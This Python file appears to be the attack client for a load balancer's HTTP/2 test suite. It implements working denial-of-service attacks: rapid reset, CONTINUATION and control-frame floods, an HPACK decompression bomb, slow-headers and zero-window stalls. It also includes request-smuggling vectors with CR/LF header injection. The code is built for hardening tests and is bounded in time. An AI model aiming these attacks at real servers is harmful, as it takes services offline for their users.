"""HTTP/2 attack clients against forklb (tests/h2_attacks.rs).

    /usr/bin/python3 attack.py tls|h2c HOST PORT ATTACK [ARG]

Prints key=value lines (see h2util.Conn.report): whether the server sent
GOAWAY (and its code), closed, how many RST_STREAMs came, and what was sent.
Each attack stops sending once the server has ended the connection, and is
bounded in time.
"""

import struct
import sys
import time

import hpack

from h2util import *

FLOOD_LIMIT_S = 10.0


def flood(c, make, total, batch=500):
    """Sends `total` frames made by make(i) in batches until the server ends
    the connection or FLOOD_LIMIT_S passes; returns how many were sent."""
    sent = 0
    t0 = time.monotonic()
    while sent < total and c.goaway is None and c.closed_at is None:
        if time.monotonic() - t0 > FLOOD_LIMIT_S:
            break
        n = min(batch, total - sent)
        if not c.sendall(b"".join(make(sent + i) for i in range(n))):
            break
        sent += n
    return sent


def rapid_reset(c, n):
    def one(i):
        stream = 1 + 2 * i
        block = c.request_block("/rapid/%d" % i)
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + rst_stream(stream, 8)

    sent = flood(c, one, n, batch=100)
    c.wait_ended(5)
    return {"sent": sent}


def literal(name, value):
    """A literal header field without indexing (new name), not Huffman-coded."""
    def s(b):
        return hpack_int(len(b), 7, 0) + b
    return b"\x00" + s(name) + s(value)


def literal_indexed(name, value):
    """A literal header field with incremental indexing (new name)."""
    def s(b):
        return hpack_int(len(b), 7, 0) + b
    return b"\x40" + s(name) + s(value)


def hpack_int(v, prefix_bits, first):
    limit = (1 << prefix_bits) - 1
    if v < limit:
        return bytes([first | v])
    out = [first | limit]
    v -= limit
    while v >= 128:
        out.append((v & 0x7F) | 0x80)
        v >>= 7
    out.append(v)
    return bytes(out)


def continuation(c, empty):
    c.sendall(frame(HEADERS, END_STREAM, 1, raw_request_block(c, "/continuation")))
    piece = b"" if empty else literal(b"x-c", b"a" * 1000)
    sent = flood(c, lambda i: frame(CONTINUATION, 0, 1, piece), 200000 if empty else 20000, batch=200)
    c.wait_ended(5)
    return {"sent": sent}


def settings_flood(c):
    sent = flood(c, lambda i: settings(), 200000, batch=1000)
    c.wait_ended(5)
    return {"sent": sent}


def ping_flood(c):
    sent = flood(c, lambda i: ping(struct.pack(">Q", i)), 200000, batch=1000)
    c.wait_ended(5)
    return {"sent": sent}


def priority_flood(c):
    sent = flood(c, lambda i: priority(1 + 2 * i, 0, 15), 200000, batch=1000)
    c.wait_ended(5)
    return {"sent": sent}


def empty_data_flood(c):
    c.sendall(frame(HEADERS, END_HEADERS, 1, c.request_block("/empty-data", "POST")))
    sent = flood(c, lambda i: frame(DATA, 0, 1, b""), 200000, batch=1000)
    c.wait_ended(5)
    return {"sent": sent}


def window_update_flood(c):
    sent = flood(c, lambda i: window_update(0, 1), 200000, batch=1000)
    c.wait_ended(5)
    return {"sent": sent}


def raw_request_block(c, path):
    """A GET head without the dynamic table (static entries and literals
    without indexing), so blocks built by hand around it stay in step."""
    def s(b):
        return hpack_int(len(b), 7, 0) + b
    scheme = b"\x87" if c.scheme == "https" else b"\x86"
    return (b"\x82" + scheme + b"\x04" + s(path.encode())
            + b"\x01" + s(c.authority.encode()))


def hpack_bomb(c, streams):
    """A 4000-byte header inserted in the dynamic table, then referenced
    16,000 times (64 MB decoded from 16 KB), on up to `streams` streams."""
    sent = 0
    for i in range(streams):
        if c.goaway is not None or c.closed_at is not None:
            break
        stream = 1 + 2 * i
        block = (raw_request_block(c, "/bomb/%d" % i)
                 + literal_indexed(b"x-bomb", b"b" * 4000)
                 + b"\xbe" * 16000)  # index 62: the newest dynamic entry
        frames = b""
        first = True
        while block:
            chunk, block = block[:16000], block[16000:]
            flags = 0 if block else END_HEADERS
            if first:
                frames += frame(HEADERS, flags | END_STREAM, stream, chunk)
                first = False
            else:
                frames += frame(CONTINUATION, flags, stream, chunk)
        if not c.sendall(frames):
            break
        sent += 1
        c.wait(lambda: stream in c.rst or stream in c.ended or c.goaway is not None
               or c.closed_at is not None, 2)
    c.wait(lambda: c.goaway is not None or c.closed_at is not None or len(c.rst) >= sent, 3)
    statuses = [c.status(st) for st in c.headers if c.status(st)]
    return {"sent": sent,
            "answered_2xx": sum(1 for x in statuses if 200 <= x < 300),
            "answered_4xx": sum(1 for x in statuses if 400 <= x < 500),
            "answered_other": sum(1 for x in statuses if not 200 <= x < 500)}


def table_size_update(c):
    # A dynamic table size update to 2^30, far above SETTINGS_HEADER_TABLE_SIZE (4096).
    block = hpack_int(1 << 30, 5, 0x20) + raw_request_block(c, "/table-size")
    c.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
    c.wait_ended(5)
    return {"sent": 1}


def slow_headers(c, limit):
    """One complete GET first (the connection is then idle under the long
    keep-alive timeout), then HEADERS without END_HEADERS and never the
    CONTINUATION: how long until the server ends the connection."""
    c.get(1, "/first")
    c.wait(lambda: 1 in c.ended or 1 in c.rst or c.closed_at is not None, 5)
    first = c.status(1) or "none"
    t0 = time.monotonic()
    c.sendall(frame(HEADERS, END_STREAM, 3, raw_request_block(c, "/never-ends")))
    c.wait(lambda: c.goaway is not None or c.closed_at is not None, limit)
    return {"first_status": first, "stalled_for": "%.3f" % (time.monotonic() - t0)}


def zero_window(c, limit):
    c.get(1, "/big")
    c.wait(lambda: 1 in c.rst or 1 in c.ended or c.goaway is not None or c.closed_at is not None, limit)
    got = len(c.data.get(1, b""))
    return {"status": c.status(1) or "none", "stream_reset": c.rst.get(1, "none"),
            "stream_ended": "yes" if 1 in c.ended else "no",
            "data_bytes": got, "after": "%.3f" % (time.monotonic() - c.start)}


def smuggle_vectors(path):
    """(name, header fields after the pseudo-headers, body, content-length
    mismatch kind). Each request is malformed (RFC 9113 §8.1.1, §8.2, §8.3):
    the server must reset the stream (or end the connection), never pass it on."""
    p = lambda n: path + n
    base = lambda n, m="GET": [(":method", m), (":scheme", None), (":authority", None), (":path", p(n))]
    return [
        ("uppercase_name", base("uppercase") + [("X-Upper", "1")], None),
        ("cr_in_value", base("cr") + [("x-v", "a\rb")], None),
        ("lf_in_value", base("lf") + [("x-v", "a\nx-injected: 1")], None),
        ("nul_in_value", base("nul") + [("x-v", "a\x00b")], None),
        ("transfer_encoding", base("te-chunked", "POST") + [("transfer-encoding", "chunked")], b"0\r\n\r\n"),
        ("connection", base("connection") + [("connection", "keep-alive")], None),
        ("keep_alive", base("keep-alive") + [("keep-alive", "timeout=5")], None),
        ("proxy_connection", base("proxy-connection") + [("proxy-connection", "keep-alive")], None),
        ("upgrade", base("upgrade") + [("upgrade", "h2c")], None),
        ("te_gzip", base("te-gzip") + [("te", "gzip")], None),
        ("content_length_short", base("cl-short", "POST") + [("content-length", "5")], b"0123456789"),
        ("content_length_long", base("cl-long", "POST") + [("content-length", "10")], b"01234"),
        ("unknown_pseudo", base("unknown-pseudo") + [(":foo", "bar")], None),
        ("missing_path", base("missing-path")[:3], None),
        ("empty_path", base("")[:3] + [(":path", "")], None),
        ("pseudo_after_regular", base("after")[:3] + [("x-a", "1"), (":path", p("after"))], None),
        ("duplicate_method", base("dup-method") + [(":method", "POST")], None),
        ("status_in_request", base("status") + [(":status", "200")], None),
        ("space_in_name", base("space-name") + [("x a", "1")], None),
        ("colon_in_name", base("colon-name") + [("x:a", "1")], None),
    ]


def smuggle(host, port, tls, only=None):
    """One connection per vector; reports `v_NAME=OUTCOME` where OUTCOME is
    `rst:CODE`, `goaway:CODE`, `closed`, `status:N` (a response: wrong) or
    `none` (no answer within 3 s: wrong)."""
    results = {}
    for name, fields, body in smuggle_vectors("/smuggle/"):
        if only and name != only:
            continue
        c = Conn(host, port, tls)
        fields = [(k, c.scheme if k == ":scheme" else c.authority if k == ":authority" else v)
                  for k, v in fields]
        block = hpack.Encoder().encode(fields, huffman=False)
        # A fresh encoder: its dynamic table is not the connection's, so this
        # connection sends no other header block.
        out = frame(HEADERS, END_HEADERS | (0 if body is not None else END_STREAM), 1, block)
        if body is not None:
            out += frame(DATA, END_STREAM, 1, body)
        c.sendall(out)
        c.wait(lambda: 1 in c.rst or c.status(1) is not None or c.goaway is not None
               or (c.closed_at is not None and not c.reader.is_alive()), 3)
        if 1 in c.rst:
            results["v_" + name] = "rst:" + c.rst[1]
        elif c.status(1) is not None:
            results["v_" + name] = "status:%d" % c.status(1)
        elif c.goaway is not None:
            results["v_" + name] = "goaway:" + c.goaway[1]
        elif c.closed_at is not None:
            results["v_" + name] = "closed"
        else:
            results["v_" + name] = "none"
        c.close()
    for k, v in results.items():
        print("%s=%s" % (k, v))


def main():
    tls, host, port, rest = parse_target(sys.argv[1:])
    attack = rest[0]
    arg = rest[1] if len(rest) > 1 else None
    if attack == "smuggle":
        return smuggle(host, port, tls, arg)
    if attack == "zero_window":
        c = Conn(host, port, tls, client_settings=[(SETTINGS_INITIAL_WINDOW_SIZE, 0)], auto_window=False)
    else:
        c = Conn(host, port, tls)
    if attack == "rapid_reset":
        extra = rapid_reset(c, int(arg or 10000))
    elif attack == "continuation":
        extra = continuation(c, empty=False)
    elif attack == "continuation_empty":
        extra = continuation(c, empty=True)
    elif attack == "settings":
        extra = settings_flood(c)
    elif attack == "ping":
        extra = ping_flood(c)
    elif attack == "priority":
        extra = priority_flood(c)
    elif attack == "empty_data":
        extra = empty_data_flood(c)
    elif attack == "window_update":
        extra = window_update_flood(c)
    elif attack == "hpack_bomb":
        extra = hpack_bomb(c, int(arg or 50))
    elif attack == "table_size":
        extra = table_size_update(c)
    elif attack == "zero_window":
        extra = zero_window(c, float(arg or 15))
    elif attack == "slow_headers":
        extra = slow_headers(c, float(arg or 15))
    else:
        raise SystemExit("unknown attack %r" % attack)
    c.report(**extra)
    c.close()


if __name__ == "__main__":
    main()
